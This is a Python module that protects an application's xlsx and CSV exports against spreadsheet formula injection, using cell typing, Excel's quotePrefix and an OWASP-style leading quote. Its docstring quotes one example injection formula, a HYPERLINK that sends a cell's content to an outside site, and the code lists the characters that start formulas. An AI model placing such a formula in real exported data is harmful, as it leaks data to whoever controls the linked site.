"""Cells that no spreadsheet evaluates: every xlsx and CSV the application writes goes through here.

Text that people typed — a unit's name, an officer's note, a reviewer's reason, a decision
number — may start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return. A spreadsheet
reads such a cell as a formula ("formula injection": ``=HYPERLINK("https://…?"&B5, "Xem")``
sends a cell's content to another site when clicked), so every writer puts its values through
one of these helpers.

**xlsx** (``append_row``, ``put``, ``text_cell``): openpyxl itself stores any string starting
with ``=`` as a formula. ``text_cell`` sets such a cell's data type back to string, so the file
holds the text as an inline string — never an ``<f>`` element — and gives it Excel's
"quotePrefix" style, the hidden apostrophe Excel puts before text typed as ``'=…``: the cell
shows exactly the text, and editing it later does not turn it into a formula either. Nothing is
added to the value, so the period workbook reads back unchanged (``reading.sheet_rows`` tells
a formula cell from a text cell by its type, not by its first character).

**CSV** (``CsvWriter``): a CSV field has no type, and Excel and LibreOffice evaluate a field
that starts with one of those characters. We follow OWASP's advice ("CSV Injection") and put a
single quote ``'`` before such a field: it is then text in every spreadsheet. The quote is
visible there (``'=abc``), the one change a reader sees; a program that reads the CSV removes a
leading ``'`` before one of those characters. The alternatives are worse: wrapping in
``="…"`` is itself a formula, and an invisible character (a zero-width space) would change the
value for programs without anyone seeing why. Numbers are left alone: ``-1.50`` or ``-3`` is
what it reads, and nothing else evaluates from it.
"""

from __future__ import annotations

import csv
import re

from openpyxl.cell import WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

# What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def is_risky(value) -> bool:
    """Return True for text that a spreadsheet could take for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def text_cell(cell):
    """Make an openpyxl cell holding risky text a plain text cell; return the cell.

    Works on a cell of a normal sheet and on a ``WriteOnlyCell``; other values are untouched
    (numbers stay numbers).
    """
    if is_risky(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def put(sheet, row: int, column: int, value):
    """Write ``value`` into a cell of a normal sheet as ``sheet.cell`` does, text as text."""
    return text_cell(sheet.cell(row=row, column=column, value=value))


def append_row(sheet, values) -> None:
    """Append a row to a sheet (normal or write-only), every risky text as a text cell."""
    if isinstance(sheet, WriteOnlyWorksheet):
        sheet.append([text_cell(WriteOnlyCell(sheet, v)) if is_risky(v) else v for v in values])
        return
    values = list(values)
    sheet.append(values)
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        if is_risky(value):
            text_cell(sheet.cell(row=row, column=column))


def append_rows(sheet, rows) -> None:
    for row in rows:
        append_row(sheet, row)


def csv_field(value):
    """Return a CSV field that no spreadsheet evaluates (see the module docstring)."""
    if is_risky(value) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class CsvWriter:
    """``csv.writer`` whose every field goes through ``csv_field``."""

    def __init__(self, stream):
        self._writer = csv.writer(stream)

    def writerow(self, values) -> None:
        self._writer.writerow([csv_field(value) for value in values])
